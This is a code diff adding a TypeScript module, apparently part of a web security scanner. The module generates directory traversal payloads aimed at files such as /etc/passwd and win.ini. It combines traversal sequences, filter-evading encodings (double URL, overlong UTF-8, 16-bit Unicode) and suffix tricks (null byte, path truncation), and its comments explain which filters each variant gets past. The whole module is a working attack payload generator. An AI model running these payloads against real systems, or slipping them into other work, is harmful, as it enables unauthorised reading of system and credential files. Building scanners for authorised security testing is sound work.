@@ -0,0 +1,148 @@
+export type TraversalSeparator = 'dot-dot-slash' | 'dot-dot-backslash' | 'nested' | 'semicolon'
+export type TraversalEncoding = 'none' | 'url' | 'double-url' | 'overlong-utf8' | 'unicode-16'
+export type TraversalSuffix = 'none' | 'null-byte' | 'question-mark' | 'hash' | 'truncation'
+
+export interface MutationOptions {
+  // Files to reach, relative to the filesystem root, e.g. `etc/passwd`
+  targetFiles: string[]
+  minDepth: number
+  maxDepth: number
+  separators: TraversalSeparator[]
+  encodings: TraversalEncoding[]
+  suffixes: TraversalSuffix[]
+  // `/etc/passwd`, and `C:\` forms for Windows files
+  absolute: boolean
+  // Keep the directory of the parameter's original value in front of the traversal
+  preservePrefix: boolean
+}
+
+export const TRAVERSAL_SEPARATORS: { id: TraversalSeparator, label: string, sequence: string, pathSeparator: string }[] = [
+  { id: 'dot-dot-slash', label: '../', sequence: '../', pathSeparator: '/' },
+  { id: 'dot-dot-backslash', label: '..\\', sequence: '..\\', pathSeparator: '\\' },
+  // Survives filters that strip `../` once
+  { id: 'nested', label: '....//', sequence: '....//', pathSeparator: '/' },
+  // Tomcat and some proxies treat `;` as a path parameter and drop it
+  { id: 'semicolon', label: '..;/', sequence: '..;/', pathSeparator: '/' }
+]
+
+// Replacement for each character that makes up a traversal, per encoding
+const ENCODED_CHARACTERS: Record<Exclude<TraversalEncoding, 'none'>, Record<string, string>> = {
+  'url': { '.': '%2e', '/': '%2f', '\\': '%5c', ';': '%3b' },
+  'double-url': { '.': '%252e', '/': '%252f', '\\': '%255c', ';': '%253b' },
+  'overlong-utf8': { '.': '%c0%ae', '/': '%c0%af', '\\': '%c1%9c', ';': '%3b' },
+  'unicode-16': { '.': '%u002e', '/': '%u2215', '\\': '%u2216', ';': '%u003b' }
+}
+
+export const TRAVERSAL_ENCODINGS: { id: TraversalEncoding, label: string }[] = [
+  { id: 'none', label: 'None' },
+  { id: 'url', label: 'URL' },
+  { id: 'double-url', label: 'Double URL' },
+  { id: 'overlong-utf8', label: 'Overlong UTF-8' },
+  { id: 'unicode-16', label: '16-bit Unicode' }
+]
+
+// Truncation pads the path with `/.` until it is this long, past the old PHP path limit
+const TRUNCATION_LENGTH = 4096
+
+const SUFFIXES: Record<TraversalSuffix, (path: string) => string> = {
+  'none': path => path,
+  'null-byte': path => `${path}%00`,
+  'question-mark': path => `${path}%3f`,
+  'hash': path => `${path}%23`,
+  'truncation': path => `${path}${'/.'.repeat(Math.max(0, Math.ceil((TRUNCATION_LENGTH - path.length) / 2)))}`
+}
+
+export const TRAVERSAL_SUFFIXES: { id: TraversalSuffix, label: string }[] = [
+  { id: 'none', label: 'None' },
+  { id: 'null-byte', label: 'Null byte' },
+  { id: 'question-mark', label: '?' },
+  { id: 'hash', label: '#' },
+  { id: 'truncation', label: 'Path truncation' }
+]
+
+// Stands in for the original value's directory until the parameter being tested is known
+export const ORIGINAL_DIRECTORY_PLACEHOLDER = '{{original-dir}}'
+
+export const DEFAULT_MUTATION_OPTIONS: MutationOptions = {
+  targetFiles: ['etc/passwd', 'windows/win.ini'],
+  minDepth: 1,
+  maxDepth: 8,
+  separators: ['dot-dot-slash'],
+  encodings: ['none'],
+  suffixes: ['none'],
+  absolute: true,
+  preservePrefix: false
+}
+
+// Upper bound on the depth range, so a typo cannot generate millions of payloads
+export const MAX_TRAVERSAL_DEPTH = 20
+
+const isWindowsFile = (file: string) => /^([a-z]:[\\/]|windows[\\/]|winnt[\\/]|inetpub[\\/]|boot\.ini$)/i.test(file)
+
+const encode = (text: string, encoding: TraversalEncoding) => {
+  if (encoding === 'none') return text
+  const characters = ENCODED_CHARACTERS[encoding]
+  return text.replace(/[./\\;]/g, character => characters[character] || character)
+}
+
+/**
+ * Every combination of the chosen dimensions for every target file,
+ * de-duplicated. Prefix-preserving variants start with
+ * ORIGINAL_DIRECTORY_PLACEHOLDER; `resolvePayload` fills it in per
+ * parameter.
+ */
+export const generateTraversalVariants = (options: MutationOptions): string[] => {
+  const minDepth = Math.max(1, Math.min(options.minDepth, MAX_TRAVERSAL_DEPTH))
+  const maxDepth = Math.max(minDepth, Math.min(options.maxDepth, MAX_TRAVERSAL_DEPTH))
+  const separators = TRAVERSAL_SEPARATORS.filter(separator => options.separators.includes(separator.id))
+  const variants = new Set<string>()
+
+  for (const rawFile of options.targetFiles) {
+    const file = rawFile.trim().replace(/^[\\/]+/, '')
+    if (!file) continue
+
+    // Unencoded paths before encoding and suffixes are applied
+    const paths: { prefix: string, path: string }[] = []
+    for (const separator of separators) {
+      const filePath = file.split(/[\\/]/).join(separator.pathSeparator)
+      for (let depth = minDepth; depth <= maxDepth; depth++) {
+        const path = `${separator.sequence.repeat(depth)}${filePath}`
+        paths.push({ prefix: '', path })
+        if (options.preservePrefix) paths.push({ prefix: ORIGINAL_DIRECTORY_PLACEHOLDER, path })
+      }
+    }
+    if (options.absolute) {
+      if (isWindowsFile(file)) {
+        const windowsPath = file.replace(/^[a-z]:[\\/]/i, '')
+        paths.push({ prefix: '', path: `C:/${windowsPath.replace(/\\/g, '/')}` })
+        paths.push({ prefix: '', path: `C:\\${windowsPath.replace(/\//g, '\\')}` })
+      } else {
+        paths.push({ prefix: '', path: `/${file}` })
+      }
+    }
+
+    for (const { prefix, path } of paths) {
+      for (const encoding of options.encodings) {
+        for (const suffix of options.suffixes) {
+          variants.add(`${prefix}${SUFFIXES[suffix](encode(path, encoding))}`)
+        }
+      }
+    }
+  }
+  return Array.from(variants)
+}
+
+/**
+ * Fill in ORIGINAL_DIRECTORY_PLACEHOLDER with the directory of the
+ * parameter's original value (`img/logo.png` gives `img/`). A value without
+ * a directory is used as one (`home` gives `home/`), and a missing value
+ * drops the prefix.
+ */
+export const resolvePayload = (payload: string, originalValue: string | null): string => {
+  if (!payload.startsWith(ORIGINAL_DIRECTORY_PLACEHOLDER)) return payload
+  const rest = payload.slice(ORIGINAL_DIRECTORY_PLACEHOLDER.length)
+  if (!originalValue) return rest
+  const lastSlash = Math.max(originalValue.lastIndexOf('/'), originalValue.lastIndexOf('\\'))
+  const directory = lastSlash === -1 ? `${originalValue}/` : originalValue.slice(0, lastSlash + 1)
+  return `${directory}${rest}`
+}